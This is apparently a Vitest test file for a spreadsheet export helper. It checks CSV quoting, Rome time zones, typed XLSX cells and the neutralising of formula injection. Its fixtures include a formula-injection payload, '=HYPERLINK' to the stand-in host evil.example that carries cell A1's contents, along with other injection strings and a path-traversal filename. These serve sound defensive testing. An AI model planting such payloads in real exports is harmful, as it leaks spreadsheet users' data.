// The export helper: RFC 4180 CSV read back with papaparse, XLSX read back with exceljs, and
// formula-looking text that comes out inert in both.
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { exportFileName, neutralise, toCsv, toXlsx, type ExportColumn } from './index.ts';

interface Row {
  name: string;
  note: string | null;
  count: number;
  at: Date | null;
  day: Date;
}

const COLUMNS: ExportColumn<Row>[] = [
  { header: 'Nome', value: (r) => r.name },
  { header: 'Nota', value: (r) => r.note },
  { header: 'Quanti', value: (r) => r.count },
  { header: 'Quando', value: (r) => r.at },
  { header: 'Giorno', value: (r) => r.day, kind: 'date' },
];

const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Clicca qui")';
// 10:30 in Rome on a summer day (UTC+2) and 09:15 on a winter day (UTC+1).
const SUMMER = new Date('2026-07-01T08:30:00Z');
const WINTER = new Date('2026-01-15T08:15:00Z');

const ROWS: Row[] = [
  { name: HYPERLINK, note: 'Riga con "virgolette", virgola\ne a capo', count: 3, at: SUMMER, day: SUMMER },
  { name: 'Zoë Àlvarez', note: null, count: -2, at: null, day: WINTER },
  { name: '+39 333 1234567', note: '@SUM(A1:A2)', count: 0, at: WINTER, day: WINTER },
  { name: '-1+1', note: '\tcmd', count: 1.5, at: SUMMER, day: SUMMER },
];

describe('neutralise', () => {
  it('prefixes text a spreadsheet would evaluate, and leaves the rest alone', () => {
    for (const s of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '\n=1', '  =1', '＝1']) expect(neutralise(s)).toBe(`'${s}`);
    for (const s of ['Maria Rossi', 'a=b', '', "'=già neutro", '1-2', 'mario@example.it']) expect(neutralise(s)).toBe(s);
  });
});

describe('toCsv', () => {
  const csv = toCsv(COLUMNS, ROWS);

  it('starts with a byte-order mark, ends lines with CRLF and quotes only where RFC 4180 needs it', () => {
    expect(csv.startsWith('\uFEFFNome,Nota,Quanti,Quando,Giorno\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain('"Riga con ""virgolette"", virgola\ne a capo"');
    expect(csv).toContain('\r\nZoë Àlvarez,,-2,,2026-01-15\r\n');
  });

  it('reads back with papaparse: the same rows, formulas inert, times in Europe/Rome', () => {
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    const [header, ...rows] = parsed.data;
    expect(header).toEqual(['Nome', 'Nota', 'Quanti', 'Quando', 'Giorno']);
    expect(rows).toHaveLength(4);
    expect(rows[0]).toEqual([`'${HYPERLINK}`, 'Riga con "virgolette", virgola\ne a capo', '3', '2026-07-01 10:30', '2026-07-01']);
    expect(rows[1]).toEqual(['Zoë Àlvarez', '', '-2', '', '2026-01-15']);
    expect(rows[2]).toEqual(["'+39 333 1234567", "'@SUM(A1:A2)", '0', '2026-01-15 09:15', '2026-01-15']);
    expect(rows[3]).toEqual(["'-1+1", "'\tcmd", '1.5', '2026-07-01 10:30', '2026-07-01']);
    // No field a spreadsheet would run.
    for (const r of rows) for (const cell of r.slice(0, 2)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('neutralises headers too, and writes only the header line for no rows', () => {
    expect(toCsv([{ header: '=cmd', value: () => 'x' }], [])).toBe("\uFEFF'=cmd\r\n");
  });
});

describe('toXlsx', () => {
  it('reads back with exceljs: text is inert text, numbers and dates stay typed', async () => {
    const buf = await toXlsx(COLUMNS, ROWS, { sheetName: 'iscritti' });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('iscritti')!;
    expect(ws.rowCount).toBe(5);
    expect(ws.getRow(1).values).toEqual([undefined, 'Nome', 'Nota', 'Quanti', 'Quando', 'Giorno']);

    const link = ws.getCell('A2');
    expect(link.type).toBe(ExcelJS.ValueType.String);
    expect(link.formula).toBeUndefined();
    expect(link.value).toBe(`'${HYPERLINK}`);
    expect(ws.getCell('B2').value).toBe('Riga con "virgolette", virgola\ne a capo');

    expect(ws.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
    expect(ws.getCell('C2').value).toBe(3);
    expect(ws.getCell('C3').value).toBe(-2);
    expect(ws.getCell('C5').value).toBe(1.5);

    // Dates are date cells showing the wall time in Rome.
    expect(ws.getCell('D2').type).toBe(ExcelJS.ValueType.Date);
    expect(ws.getCell('D2').value).toEqual(new Date('2026-07-01T10:30:00Z'));
    expect(ws.getCell('D2').numFmt).toBe('dd/mm/yyyy hh:mm');
    expect(ws.getCell('D4').value).toEqual(new Date('2026-01-15T09:15:00Z'));
    expect(ws.getCell('E3').numFmt).toBe('dd/mm/yyyy');
    expect(ws.getCell('D3').value).toBeNull();

    expect(ws.getCell('A4').value).toBe("'+39 333 1234567");
    expect(ws.getCell('B4').value).toBe("'@SUM(A1:A2)");
    expect(ws.getCell('A5').value).toBe("'-1+1");
    // Nowhere a formula.
    ws.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('keeps digits in a text column as text, and reads numeric text in a number column as a number', async () => {
    const buf = await toXlsx(
      [
        { header: 'Telefono', value: (r: { p: string; n: string }) => r.p },
        { header: 'Anno', value: (r: { p: string; n: string }) => r.n, kind: 'number' },
      ],
      [{ p: '0461123456', n: '2024' }],
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.getCell('A2').value).toBe('0461123456');
    expect(ws.getCell('B2').value).toBe(2024);
  });
});

describe('exportFileName', () => {
  it('is a safe stem with the day in Rome', () => {
    expect(exportFileName('iscritti', 'csv', new Date('2026-06-30T23:30:00Z'))).toBe('iscritti-2026-07-01.csv');
    expect(exportFileName('../"a b"', 'xlsx', WINTER)).toBe('a-b-2026-01-15.xlsx');
  });
});
